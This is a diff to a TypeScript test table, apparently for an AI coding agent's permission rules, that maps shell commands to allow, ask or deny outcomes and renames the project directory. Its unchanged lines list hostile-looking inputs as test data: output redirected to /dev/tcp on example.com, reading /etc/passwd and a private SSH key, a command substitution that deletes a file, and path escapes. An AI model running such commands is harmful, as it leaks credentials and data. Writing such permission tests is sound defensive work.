@@ -1,6 +1,6 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are shell commands
 /**
- * What becomes of a command under these rules, in the directory /work/api. `allow`: unasked; `ask`; `deny`. A person
+ * What becomes of a command under these rules, in the directory /code/api. `allow`: unasked; `ask`; `deny`. A person
  * who reads this table knows what a rule covers.
  */
 import type { PermissionRule } from '../../../src/shared/agents/permissions.ts'
@@ -199,7 +199,7 @@ export const commandTable: [command: string, outcome: Outcome][] = [
   ['npm test > /dev/tcp/example.com/80', 'ask'],
   ['npm test < package.json', 'allow'],
   ['cat < /etc/passwd', 'ask'],
-  ['npm test > /work/api/dist/out.txt', 'allow'],
+  ['npm test > /code/api/dist/out.txt', 'allow'],
   ['npm test {fd}> dist/x', 'ask'],
   ['if true; then npm test; fi > out.txt', 'ask'],
   // Variables.
@@ -323,8 +323,8 @@ export const commandTable: [command: string, outcome: Outcome][] = [
   ['cat "$X"', 'ask'],
   ['cat $HOME/.ssh/id_ed25519', 'ask'],
   ['cat dist/../../x', 'ask'],
-  ['cat /work/api/a', 'allow'],
-  ['cat /work/api-2/a', 'ask'],
+  ['cat /code/api/a', 'allow'],
+  ['cat /code/api-2/a', 'ask'],
   ['echo "$HOME" *', 'allow'],
   ['echo $(rm x)', 'ask'],
   ['grep -rn "npm test" src', 'allow'],
@@ -335,7 +335,7 @@ export const commandTable: [command: string, outcome: Outcome][] = [
   ['which npm', 'allow'],
   // Directories.
   ['cd src && npm test', 'allow'],
-  ['cd /work/api/src; npm test', 'allow'],
+  ['cd /code/api/src; npm test', 'allow'],
   ['cd .. && npm test', 'ask'],
   ['cd / && cat etc/passwd', 'ask'],
   ['cd src && cat ../../x', 'ask'],
